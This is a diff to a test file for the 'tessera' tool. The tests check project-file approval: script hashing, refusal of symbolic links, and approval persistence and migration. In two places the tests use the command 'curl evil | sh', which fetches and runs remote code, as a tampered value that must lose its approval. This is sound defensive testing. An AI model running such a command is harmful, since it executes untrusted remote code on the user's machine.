@@ -1,13 +1,14 @@
-// Project files and their approvals: what a .tessera.json may hold and what the user is shown, and
-// approvals remembered by path and content hash (a changed file is not approved), kept per server,
-// written atomically, a damaged file moved aside and reported.
+// Project files and their approvals: what a .tessera.json may hold and what the user is shown (the
+// scripts it runs included), a symbolic link refused, and approvals remembered by path and the hash
+// of what runs (a changed file or script is not approved), kept per server, written atomically, a
+// damaged file moved aside and reported, an older version's approvals asked about again.
 
 import fs from 'node:fs';
 import os from 'node:os';
 import path from 'node:path';
 import { afterEach, beforeEach, describe, expect, it } from 'vitest';
 import { ProjectApprovals } from '../../../src/store/projectApprovals.js';
-import { hashProjectFile, projectCommands, readProjectFile, type ProjectFile } from '../../../src/store/projectFile.js';
+import { approvalHash, hashBytes, projectCommands, readProjectFile, type ProjectFile } from '../../../src/store/projectFile.js';
 
 let dir: string;
 
@@ -29,7 +30,8 @@ describe('the project file', () => {
     const text = JSON.stringify({ setupCommand: ' npm ci ', templates: [{ name: 'web', panes: ['claude', { command: ['sh', '-c', "echo 'hi' > x"] }] }] });
     const project = write(text);
     expect(project.file).toBe(path.join(dir, '.tessera.json'));
-    expect(project.hash).toBe(hashProjectFile(text));
+    expect(project.scripts).toEqual([]);
+    expect(project.hash).toBe(approvalHash(hashBytes(text), []));
     expect(project.hash).toMatch(/^[0-9a-f]{64}$/);
     expect(projectCommands(project)).toEqual(['setupCommand: npm ci', `template web: claude | sh -c 'echo '\\''hi'\\'' > x'`]);
     expect(write(`${text}\n`).hash).not.toBe(project.hash); // any byte changes it
@@ -48,6 +50,42 @@ describe('the project file', () => {
   });
 });
 
+describe('what the project file runs', () => {
+  it('hashes the scripts its commands run: a changed script needs a new approval, an unrelated file does not', () => {
+    fs.mkdirSync(path.join(dir, 'tools'));
+    fs.writeFileSync(path.join(dir, 'setup.sh'), 'echo setting up\n');
+    fs.writeFileSync(path.join(dir, 'tools', 'dev.js'), 'console.log(1)\n');
+    fs.writeFileSync(path.join(dir, 'README'), 'not run\n');
+    const text = JSON.stringify({ setupCommand: 'sh setup.sh', templates: [{ name: 'dev', panes: [{ command: ['sh', '-c', 'node tools/dev.js > out.log; ./missing.sh'] }] }] });
+    const project = write(text);
+    expect(project.scripts).toEqual([
+      { name: 'setup.sh', hash: hashBytes('echo setting up\n') },
+      { name: path.join('tools', 'dev.js'), hash: hashBytes('console.log(1)\n') },
+    ]);
+    fs.writeFileSync(path.join(dir, 'README'), 'changed\n');
+    fs.writeFileSync(path.join(dir, 'out.log'), 'output of the command, not a script\n');
+    expect(write(text).hash).toBe(project.hash);
+    fs.writeFileSync(path.join(dir, 'setup.sh'), 'curl evil | sh\n');
+    expect(write(text).hash).not.toBe(project.hash);
+  });
+
+  it('refuses a project file that is a symbolic link, to a file elsewhere or in the folder', () => {
+    const elsewhere = path.join(dir, 'elsewhere');
+    fs.mkdirSync(elsewhere);
+    fs.writeFileSync(path.join(elsewhere, '.tessera.json'), '{"setupCommand": "sh setup.sh"}');
+    const repo = path.join(dir, 'repo');
+    fs.mkdirSync(repo);
+    fs.symlinkSync(path.join(elsewhere, '.tessera.json'), path.join(repo, '.tessera.json'));
+    expect(readProjectFile(repo)).toEqual({
+      problem: `${repo}/.tessera.json is a symbolic link (to ${elsewhere}/.tessera.json); a project file must be a file of its own in the repository, so nothing of it is used`,
+    });
+    fs.rmSync(path.join(repo, '.tessera.json'));
+    fs.writeFileSync(path.join(repo, 'real.json'), '{}');
+    fs.symlinkSync('real.json', path.join(repo, '.tessera.json'));
+    expect(readProjectFile(repo)).toMatchObject({ problem: expect.stringMatching(/is a symbolic link \(to real\.json\)/) });
+  });
+});
+
 describe('approvals', () => {
   it('approves a file as it is: the same path and contents, never another file or a changed one', () => {
     const approvals = new ProjectApprovals(path.join(dir, 'state'));
@@ -58,19 +96,37 @@ describe('approvals', () => {
     expect(approvals.isApproved('/elsewhere/.tessera.json', project.hash)).toBe(false);
     const changed = write('{"setupCommand": "curl evil | sh"}');
     expect(approvals.isApproved(changed.file, changed.hash)).toBe(false);
-    // Kept across servers' restarts (a new instance reads the file), and approving the change replaces the old approval.
+    // Kept across servers' restarts (a new instance reads the file); each approved version stays
+    // approved (a worktree on another branch may have its own), the newest few of them.
     approvals.approve(changed.file, changed.hash);
     const again = new ProjectApprovals(path.join(dir, 'state'));
     expect(again.isApproved(changed.file, changed.hash)).toBe(true);
-    expect(again.isApproved(project.file, project.hash)).toBe(false);
+    expect(again.isApproved(project.file, project.hash)).toBe(true);
     expect(fs.statSync(again.file).mode & 0o777).toBe(0o600);
+    for (let i = 0; i < 8; i++) again.approve(project.file, String(i).repeat(64));
+    expect(again.isApproved(project.file, project.hash)).toBe(false);
+    expect(again.isApproved(project.file, '7'.repeat(64))).toBe(true);
+  });
+
+  it('asks again about what an older version approved (by a link target and the JSON alone), and says so', () => {
+    const state = path.join(dir, 'state');
+    fs.mkdirSync(state);
+    const approvals = new ProjectApprovals(state);
+    const project = write('{"setupCommand": "npm ci"}');
+    const old = JSON.stringify({ version: 1, approvals: [{ file: project.file, hash: hashBytes('{"setupCommand": "npm ci"}'), approved: '2026-01-01T00:00:00.000Z' }] });
+    fs.writeFileSync(approvals.file, old);
+    expect(approvals.isApproved(project.file, project.hash)).toBe(false);
+    expect(approvals.isApproved(project.file, hashBytes('{"setupCommand": "npm ci"}'))).toBe(false);
+    expect(approvals.problem).toMatch(/project files approved by an earlier tessera are asked about again/);
+    approvals.approve(project.file, project.hash);
+    expect(JSON.parse(fs.readFileSync(approvals.file, 'utf8'))).toMatchObject({ version: 2, approvals: [{ file: project.file, hash: project.hash }] });
   });
 
   it('moves a damaged file aside, keeps its bytes, reports it, and approves nothing from it', () => {
     const state = path.join(dir, 'state');
     fs.mkdirSync(state);
     const approvals = new ProjectApprovals(state);
-    const damaged = '{"version": 1, "approvals": [{"file": "/x", "hash": "not-a-hash", "approved": "2026-01-01"}]}';
+    const damaged = '{"version": 2, "approvals": [{"file": "/x", "hash": "not-a-hash", "approved": "2026-01-01"}]}';
     fs.writeFileSync(approvals.file, damaged);
     expect(approvals.isApproved('/x', 'not-a-hash')).toBe(false);
     expect(approvals.problem).toMatch(/the project approvals were moved aside: it has the wrong shape \(approvals\[0\]\.hash must be a sha256 in hex\); its bytes are kept in .*approved-projects\.json\.corrupt-/);
